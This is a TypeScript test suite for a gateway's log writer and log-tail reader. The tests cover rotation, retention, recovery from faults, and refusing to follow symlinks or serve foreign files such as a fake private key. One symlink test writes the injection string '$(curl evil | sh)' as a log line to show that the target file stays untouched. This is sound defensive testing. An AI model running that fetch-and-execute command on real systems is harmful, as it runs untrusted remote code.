// The log writer (rotation, retention, faults) and logs.tail over the logical stream, in-process on a temp dir.
import assert from 'node:assert/strict';
import {existsSync, mkdirSync, readdirSync, readFileSync, renameSync, rmSync, symlinkSync, writeFileSync} from 'node:fs';
import path from 'node:path';
import {after, describe, test} from 'node:test';
import {segmentsOnDisk} from '../source/protocol/logs/segments.js';
import {tailLog} from '../source/protocol/logs/tail.js';
import {LogWriter} from '../gateway/logs/writer.js';
import {tempDir} from './helpers/gateway.js';

const cleanups: Array<() => Promise<void>> = [];
after(async () => {
	await Promise.all(cleanups.map(async (cleanup) => cleanup()));
});

async function logDir(): Promise<string> {
	const {dir, cleanup} = await tempDir('openclaw-logs-');
	cleanups.push(cleanup);
	return dir;
}

const line = (index: number) => JSON.stringify({message: `line ${index}`, pad: 'x'.repeat(index % 40)});

function tail(writer: LogWriter, params: {cursor?: number; limit?: number; maxBytes?: number}) {
	return tailLog(writer.path, writer.segments(), params);
}

describe('LogWriter', () => {
	test('rotates by size into archives named by their offset and keeps maxFiles of them', async () => {
		const dir = await logDir();
		const writer = new LogWriter({file: path.join(dir, 'logs', 'gateway.log'), maxFileBytes: 500, maxFiles: 2});
		for (let index = 0; index < 100; index++) {
			writer.write(line(index));
		}

		const names = readdirSync(path.join(dir, 'logs')).sort();
		const archives = names.filter((name) => /^gateway\.log\.\d+$/.test(name));
		assert.equal(archives.length, 2);
		assert.ok(names.includes('gateway.log'));
		assert.ok(writer.status().rotations > 2);
		for (const segment of writer.segments()) {
			assert.ok(segment.size <= 500, `${segment.path} is ${segment.size} bytes`);
			assert.match(readFileSync(segment.path, 'utf8'), /\n$/, 'segments end at a line boundary');
		}

		const [first, second, active] = writer.segments();
		assert.equal(first.base + first.size, second.base, 'archives are contiguous');
		assert.equal(second.base + second.size, active.base);
		assert.equal(writer.end, active.base + active.size);
		writer.close();
	});

	test('a new writer continues the stream where the old one stopped', async () => {
		const dir = await logDir();
		const file = path.join(dir, 'gateway.log');
		const first = new LogWriter({file, maxFileBytes: 300});
		for (let index = 0; index < 30; index++) {
			first.write(line(index));
		}

		const end = first.end;
		first.close();
		const second = new LogWriter({file, maxFileBytes: 300});
		assert.equal(second.end, end);
		second.write('next');
		const result = tail(second, {cursor: end});
		assert.deepEqual(result.lines, ['next']);
		second.close();
	});

	test('an unwritable log path is counted, reported and recovered from without throwing', async () => {
		const dir = await logDir();
		const blocker = path.join(dir, 'blocker');
		writeFileSync(blocker, 'a regular file where a directory should be');
		const writer = new LogWriter({file: path.join(blocker, 'gateway.log'), checkIntervalMs: 0});
		writer.write('lost 1');
		writer.write('lost 2');
		let status = writer.status();
		assert.equal(status.ok, false);
		assert.match(status.error!, /not writable/);
		assert.equal(status.droppedLines, 2);
		rmSync(blocker);
		writer.write('kept');
		status = writer.status();
		assert.equal(status.ok, true);
		assert.equal(status.faults, 1);
		assert.equal(status.droppedLines, 2);
		assert.equal(readFileSync(path.join(blocker, 'gateway.log'), 'utf8'), 'kept\n');
		writer.close();
	});

	test('a log directory replaced under the writer is noticed; offsets keep moving forward after recovery', async () => {
		const dir = await logDir();
		const logs = path.join(dir, 'logs');
		const writer = new LogWriter({file: path.join(logs, 'gateway.log'), checkIntervalMs: 0});
		writer.write('before');
		const cursor = writer.end;
		renameSync(logs, path.join(dir, 'moved'));
		writeFileSync(logs, 'not a directory');
		writer.write('dropped');
		assert.equal(writer.status().ok, false);
		rmSync(logs);
		writer.write('after');
		assert.equal(writer.status().ok, true);
		assert.ok(existsSync(path.join(logs, 'gateway.log.offset')));
		const result = tail(writer, {cursor});
		assert.deepEqual(result.lines, ['after']);
		assert.equal(result.reset, undefined);
		writer.close();
	});

	test('a file someone else put at the log path is never written, renamed or served: reported until it is moved away', async () => {
		const dir = await logDir();
		const file = path.join(dir, 'gateway.log');
		const writer = new LogWriter({file, checkIntervalMs: 0});
		writer.write('ours');
		const cursor = writer.end;
		renameSync(file, path.join(dir, 'rotated-by-hand.log'));
		writeFileSync(file, 'foreign\n');
		writer.write('dropped');
		const status = writer.status();
		assert.equal(status.ok, false);
		assert.match(status.error!, /not created by the gateway/);
		assert.equal(readFileSync(file, 'utf8'), 'foreign\n', 'the foreign file is untouched');
		assert.deepEqual(tail(writer, {cursor}).lines, [], 'and not served');
		renameSync(file, path.join(dir, 'foreign.txt'));
		writer.write('after');
		assert.equal(writer.status().ok, true);
		assert.deepEqual(tail(writer, {cursor}).lines, ['after']);
		assert.equal(readFileSync(path.join(dir, 'foreign.txt'), 'utf8'), 'foreign\n');
		writer.close();
	});
});

describe('LogWriter only touches files it created', () => {
	test('maxFiles: 1 never renames, deletes, appends to or serves a pre-existing file of the same name', async () => {
		const dir = await logDir();
		const file = path.join(dir, 'notes.log');
		writeFileSync(file, 'the operator\'s own notes\n');
		writeFileSync(`${file}.1`, 'an older archive of someone else\n');
		writeFileSync(`${file}.7`, 'another one\n');
		const writer = new LogWriter({file, maxFileBytes: 64, maxFiles: 1, checkIntervalMs: 0});
		for (let index = 0; index < 20; index++) {
			writer.write(line(index));
		}

		assert.equal(readFileSync(file, 'utf8'), 'the operator\'s own notes\n');
		assert.equal(readFileSync(`${file}.1`, 'utf8'), 'an older archive of someone else\n');
		assert.equal(readFileSync(`${file}.7`, 'utf8'), 'another one\n');
		assert.equal(writer.status().ok, false);
		assert.match(writer.status().error!, /notes\.log exists but was not created by the gateway/);
		assert.deepEqual(tail(writer, {}).lines, []);
		writer.close();
	});

	test('what it created it still rotates and prunes after a restart (the record survives), and nothing else', async () => {
		const dir = await logDir();
		const file = path.join(dir, 'custom.log');
		const first = new LogWriter({file, maxFileBytes: 200, maxFiles: 1});
		first.write('first');
		first.close();
		writeFileSync(`${file}.999999`, 'not ours\n');
		const second = new LogWriter({file, maxFileBytes: 200, maxFiles: 1});
		assert.equal(second.status().ok, true, second.status().error);
		for (let index = 0; index < 30; index++) {
			second.write(line(index));
		}

		assert.ok(second.status().rotations > 1);
		const archives = readdirSync(dir).filter((name) => /^custom\.log\.\d+$/.test(name));
		assert.equal(archives.length, 2, `${archives.join(', ')}: one of ours and the foreign one`);
		assert.equal(readFileSync(`${file}.999999`, 'utf8'), 'not ours\n');
		assert.ok(!second.segments().some((segment) => segment.path.endsWith('.999999')));
		second.close();
	});

	test('a symlink at the log path is not followed: the target is untouched and the fault names it', async () => {
		const dir = await logDir();
		const target = path.join(dir, 'bashrc');
		writeFileSync(target, 'echo hi\n');
		const file = path.join(dir, 'logs', 'gateway.log');
		mkdirSync(path.dirname(file));
		symlinkSync(target, file);
		const writer = new LogWriter({file});
		writer.write('$(curl evil | sh)');
		assert.equal(readFileSync(target, 'utf8'), 'echo hi\n');
		assert.match(writer.status().error!, /gateway\.log is a symbolic link, not a regular file/);
		writer.close();
	});

	test('an archive that is a symlink (to a private key) is never served by tail', async () => {
		const dir = await logDir();
		const key = path.join(dir, 'id_ed25519');
		writeFileSync(key, '-----BEGIN OPENSSH PRIVATE KEY-----\nsecret\n');
		const file = path.join(dir, 'logs', 'gateway.log');
		mkdirSync(path.dirname(file));
		symlinkSync(key, `${file}.0`);
		const writer = new LogWriter({file});
		writer.write('ours');
		const served = [...tail(writer, {}).lines, ...tail(writer, {cursor: 0}).lines, ...tailLog(file, segmentsOnDisk(file), {}).lines];
		assert.ok(!served.some((text) => text.includes('PRIVATE KEY') || text === 'secret'), served.join('\n'));
		assert.ok(served.includes('ours'));
		writer.close();
	});
});

describe('tailLog', () => {
	test('an empty or missing log answers no lines at cursor 0', async () => {
		const dir = await logDir();
		const writer = new LogWriter({file: path.join(dir, 'gateway.log')});
		assert.deepEqual(tail(writer, {}), {file: writer.path, cursor: 0, size: 0, lines: []});
		writer.close();
	});

	test('without a cursor: the newest lines up to limit, truncated when older ones exist', async () => {
		const dir = await logDir();
		const writer = new LogWriter({file: path.join(dir, 'gateway.log')});
		for (let index = 0; index < 10; index++) {
			writer.write(`l${index}`);
		}

		const all = tail(writer, {});
		assert.equal(all.lines.length, 10);
		assert.equal(all.truncated, undefined);
		assert.equal(all.cursor, writer.end);
		const last3 = tail(writer, {limit: 3});
		assert.deepEqual(last3.lines, ['l7', 'l8', 'l9']);
		assert.equal(last3.truncated, true);
		const window = tail(writer, {maxBytes: 7});
		assert.deepEqual(window.lines, ['l8', 'l9'], 'the partial first line of the window is dropped');
		assert.equal(window.truncated, true);
		writer.close();
	});

	test('with a cursor: reads forward in pages of limit lines / maxBytes, never skipping', async () => {
		const dir = await logDir();
		const writer = new LogWriter({file: path.join(dir, 'gateway.log'), maxFileBytes: 200});
		for (let index = 0; index < 50; index++) {
			writer.write(`entry-${index}`);
		}

		const seen: string[] = [];
		let cursor = 0;
		for (let calls = 0; calls < 100 && cursor < writer.end; calls++) {
			const page = tail(writer, {cursor, limit: 7, maxBytes: 64});
			assert.equal(page.reset, undefined);
			assert.ok(page.lines.length <= 7);
			seen.push(...page.lines);
			cursor = page.cursor;
		}

		assert.deepEqual(seen, Array.from({length: 50}, (_, index) => `entry-${index}`));
		writer.close();
	});

	test('a follower interleaved with rotations reads every line exactly once', async () => {
		const dir = await logDir();
		const writer = new LogWriter({file: path.join(dir, 'gateway.log'), maxFileBytes: 1000, maxFiles: 2});
		const seen: string[] = [];
		let cursor = tail(writer, {}).cursor;
		for (let index = 0; index < 3000; index++) {
			writer.write(line(index));
			if (index % 17 === 0) {
				const page = tail(writer, {cursor});
				assert.equal(page.reset, undefined, `reset at ${index}`);
				seen.push(...page.lines);
				cursor = page.cursor;
			}
		}

		seen.push(...tail(writer, {cursor}).lines);
		assert.ok(writer.status().rotations > 50);
		assert.equal(seen.length, 3000);
		assert.deepEqual(seen, Array.from({length: 3000}, (_, index) => line(index)));
		writer.close();
	});

	test('reset only when the data is gone: pruned archives, or a cursor beyond the end', async () => {
		const dir = await logDir();
		const writer = new LogWriter({file: path.join(dir, 'gateway.log'), maxFileBytes: 100, maxFiles: 1});
		for (let index = 0; index < 40; index++) {
			writer.write(line(index));
		}

		const [oldest] = writer.segments();
		const gone = tail(writer, {cursor: 0});
		assert.equal(gone.reset, true);
		assert.equal(gone.skippedBytes, oldest.base);
		assert.ok(gone.lines.length > 0);
		const beyond = tail(writer, {cursor: writer.end + 100});
		assert.equal(beyond.reset, true);
		assert.equal(beyond.cursor, writer.end);
		const atEnd = tail(writer, {cursor: writer.end});
		assert.deepEqual([atEnd.lines, atEnd.reset], [[], undefined]);
		writer.close();
	});

	test('an archive deleted by hand is skipped with reset, not a follower stuck on it', async () => {
		const dir = await logDir();
		const writer = new LogWriter({file: path.join(dir, 'gateway.log'), maxFileBytes: 100, maxFiles: 3});
		for (let index = 0; index < 12; index++) {
			writer.write(line(index));
		}

		const [oldest, second] = writer.segments();
		rmSync(oldest.path);
		const result = tail(writer, {cursor: oldest.base});
		assert.equal(result.reset, true);
		assert.equal(result.skippedBytes, oldest.size);
		assert.equal(result.lines[0], readFileSync(second.path, 'utf8').split('\n')[0]);
		const fromTail = tail(writer, {});
		assert.equal(fromTail.cursor, writer.end);
		writer.close();
	});

	test('non-JSON lines pass through as they are, and redaction applies to served lines', async () => {
		const dir = await logDir();
		mkdirSync(dir, {recursive: true});
		const writer = new LogWriter({file: path.join(dir, 'gateway.log')});
		writer.write('plain text, not JSON');
		writer.write('secret=abc');
		const result = tailLog(writer.path, writer.segments(), {cursor: 0}, (text) => text.replace('abc', '***'));
		assert.deepEqual(result.lines, ['plain text, not JSON', 'secret=***']);
		writer.close();
	});

	test('a cursor in the middle of a line skips to the next whole line', async () => {
		const dir = await logDir();
		const writer = new LogWriter({file: path.join(dir, 'gateway.log')});
		writer.write('first line');
		writer.write('second');
		const result = tail(writer, {cursor: 3});
		assert.deepEqual(result.lines, ['second']);
		assert.equal(result.skippedBytes, 'first line\n'.length - 3);
		writer.close();
	});
});
